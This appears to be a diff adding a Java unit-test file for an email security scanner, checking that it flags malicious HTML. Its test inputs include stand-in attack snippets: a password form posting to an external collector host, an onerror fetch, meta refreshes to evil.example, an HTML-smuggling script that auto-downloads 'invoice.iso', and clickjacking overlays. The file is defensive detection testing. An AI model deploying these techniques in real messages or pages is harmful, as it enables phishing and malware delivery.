@@ -1,0 +1,92 @@
+package org.streamail.detect.content.internal;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.streamail.detect.content.internal.ExecutableDetectionTest.only;
+import static org.streamail.detect.content.internal.Samples.*;
+
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.streamail.api.model.Finding;
+
+class HtmlTest {
+    static final String NEWSLETTER = """
+            <!DOCTYPE html><html><head><meta charset="utf-8"><title>News</title>
+            <style>body{font-family:Arial} .btn{background:#06c;color:#fff}</style></head>
+            <body><div style="display:none;max-height:0;overflow:hidden">This week's preheader text</div>
+            <table width="100%" cellpadding="0"><tr><td style="width:100%;padding:12px">
+            <img src="https://cdn.example.com/logo.png" alt="Logo" width="120">
+            <h1>Spring sale</h1><p>Our spring collection is here. <a class="btn" href="https://shop.example.com/sale">Shop now</a></p>
+            <img src="data:image/png;base64,iVBORw0KGgo=" alt="">
+            <p style="font-size:11px;color:#888">Unsubscribe: <a href="https://shop.example.com/u?id=1">here</a></p>
+            </td></tr></table></body></html>""";
+
+    static List<Finding> scanHtml(String html) {
+        return scan(message("", html));
+    }
+
+    @Test
+    void aNewsletterWithoutScriptIsClean() {
+        assertThat(scanHtml(NEWSLETTER)).isEmpty();
+        assertThat(scanAttachment("news.html", "text/html", utf8(NEWSLETTER))).isEmpty();
+    }
+
+    @Test
+    void scriptsAndScriptUrlsAreFound() {
+        Finding f = only(scanHtml("<p>hi</p><script>document.write(1)</script>"), "html-script");
+        assertThat(f.part()).isEqualTo("html body");
+        assertThat(rules(scanHtml("<a href=' JavaScript:alert(1)'>x</a>"))).contains("html-script");
+    }
+
+    @Test
+    void eventHandlersAreFound() {
+        assertThat(only(scanHtml("<img src=x onerror=\"fetch('//x')\">"), "html-event-handler").detail())
+                .contains("onerror");
+    }
+
+    @Test
+    void framesObjectsAndEmbedsAreFound() {
+        assertThat(rules(scanHtml("<iframe src='https://evil.example/'></iframe>"))).contains("html-embed");
+        assertThat(rules(scanHtml("<object data='x.swf'></object>"))).contains("html-embed");
+        assertThat(rules(scanHtml("<embed src='x.swf'>"))).contains("html-embed");
+    }
+
+    @Test
+    void aFormPostingElsewhereIsFound() {
+        assertThat(only(scanHtml("<form action='https://collect.example/login' method=post><input type=password></form>"),
+                "html-form-external").detail()).contains("collect.example");
+        assertThat(rules(scanHtml("<form><input name=q></form>"))).doesNotContain("html-form-external");
+    }
+
+    @Test
+    void aMetaRefreshToAnotherSiteIsFound() {
+        assertThat(only(scanHtml("<meta http-equiv='refresh' content='0; url=https://evil.example/'>"),
+                "html-meta-refresh").detail()).contains("https://evil.example/");
+    }
+
+    @Test
+    void activeDataUrisAreFoundButDataImagesAreNot() {
+        assertThat(rules(scanHtml("<a href='data:text/html;base64,PHNjcmlwdD4='>open</a>"))).contains("html-data-uri");
+        assertThat(rules(scanHtml("<img src='data:image/png;base64,iVBORw0KGgo='>"))).isEmpty();
+    }
+
+    @Test
+    void htmlSmugglingIsFound() {
+        String smuggle = "<script>var b=atob('TVqQAAMAAAAEAAAA');var a=new Uint8Array(b.length);"
+                + "var blob=new Blob([a],{type:'application/octet-stream'});var l=document.createElement('a');"
+                + "l.href=URL.createObjectURL(blob);l.download='invoice.iso';l.click();</script>";
+        List<Finding> f = scan(message("", "", attachment("invoice.html", "text/html", utf8(smuggle))));
+        assertThat(only(f, "html-smuggling").part()).isEqualTo("invoice.html");
+        assertThat(rules(scanHtml("<a download='x.exe' href='data:application/octet-stream;base64,TVqQ'>get</a>")))
+                .contains("html-smuggling");
+    }
+
+    @Test
+    void overlaysAreFound() {
+        assertThat(rules(scanHtml("<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999'>"
+                + "<a href='https://evil.example'>continue</a></div>"))).contains("html-overlay");
+        assertThat(rules(scanHtml("<a href='https://evil.example' style='position:absolute;opacity:0;"
+                + "top:0;left:0'>x</a><a href='https://bank.example'>Your bank</a>"))).contains("html-overlay");
+        assertThat(rules(scanHtml("<style>.o{position:fixed;inset:0;z-index:2147483647}</style><div class=o></div>")))
+                .contains("html-overlay");
+    }
+}
